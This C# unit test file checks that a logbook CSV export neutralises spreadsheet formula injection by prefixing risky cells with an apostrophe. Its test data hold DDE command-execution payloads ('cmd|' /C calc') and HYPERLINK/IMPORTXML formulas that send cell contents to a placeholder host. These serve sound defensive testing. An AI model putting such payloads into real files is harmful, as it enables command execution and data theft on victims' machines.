using System.Text;
using CsvHelper;
using Enki.Domain.Logbook;
using Enki.Infrastructure.Logbook;

namespace Enki.Tests.Security;

/// <summary>
/// CSV formula injection (OWASP): a cell a spreadsheet would run as a formula is written as text, with a
/// leading apostrophe, whatever field of the logbook it comes through. The value itself is kept.
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly DateTimeOffset At = new(2026, 11, 28, 9, 30, 0, TimeSpan.Zero);

    /// <summary>What OWASP and published exploits use: every formula prefix, DDE, hyperlinks, and prefixes hidden behind tab or CR.</summary>
    public static readonly TheoryData<string> Formulas = new()
    {
        "=1+1",
        "=HYPERLINK(\"https://exemple.invalid/?d=\"&A1,\"Cliquez ici\")",
        "=cmd|' /C calc'!A0",
        "+33 6 12 34 56 78",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"https://exemple.invalid/?\",A1),\"//a\")",
        "-",
        "=",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_cell_that_would_be_a_formula_is_written_as_text_in_every_column(string formula)
    {
        var row = Enumerable.Repeat(formula, LogbookRows.Headers.Length).ToArray();

        var rows = Read(LogbookCsv.Write([row]));

        Assert.Equal(2, rows.Count);
        Assert.All(rows[1], cell => Assert.Equal("'" + formula, cell));
    }

    [Fact]
    public void A_logbook_entry_typed_as_a_formula_is_exported_as_text()
    {
        var entry = LogbookEntry.Write(Guid.NewGuid(), "sdis77", "=HYPERLINK(\"https://exemple.invalid\")", "@SDIS", LogbookEntryKind.Decision,
            "=1+1", ["+tag"], null, At);

        var row = Read(LogbookCsv.Write(LogbookRows.Of([entry], "77")))[1];

        Assert.Equal("'=HYPERLINK(\"https://exemple.invalid\")", row[2]);
        Assert.Equal("'@SDIS", row[3]);
        Assert.Equal("'=1+1", row[4]);
        Assert.Equal("'+tag", row[5]);
        Assert.Equal("2026-11-28 10:30:00", row[0]);
    }

    [Theory]
    [InlineData("Fermeture du pont")]
    [InlineData("Pont fermé ; détour par \"Meaux\"\nà partir de 10 h")]
    [InlineData(" =1+1 (espace devant : pas une formule)")]
    [InlineData("Niveau : +2 m à 10 h")]
    public void Ordinary_text_is_kept_as_it_is(string text)
    {
        var row = Enumerable.Repeat(text, LogbookRows.Headers.Length).ToArray();

        var rows = Read(LogbookCsv.Write([row]));

        Assert.Equal(LogbookRows.Headers, rows[0]);
        Assert.All(rows[1], cell => Assert.Equal(text, cell));
    }

    /// <summary>Reads the file back as a spreadsheet would: BOM, ";" separators, quoted fields.</summary>
    internal static List<string[]> Read(byte[] csv)
    {
        Assert.Equal(Encoding.UTF8.GetPreamble(), csv[..3]);
        using var reader = CsvReader.FromText(Encoding.UTF8.GetString(csv[3..]), CsvReaderOptions.Default with { HasHeader = false, Separator = ';' });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }
        return rows;
    }
}
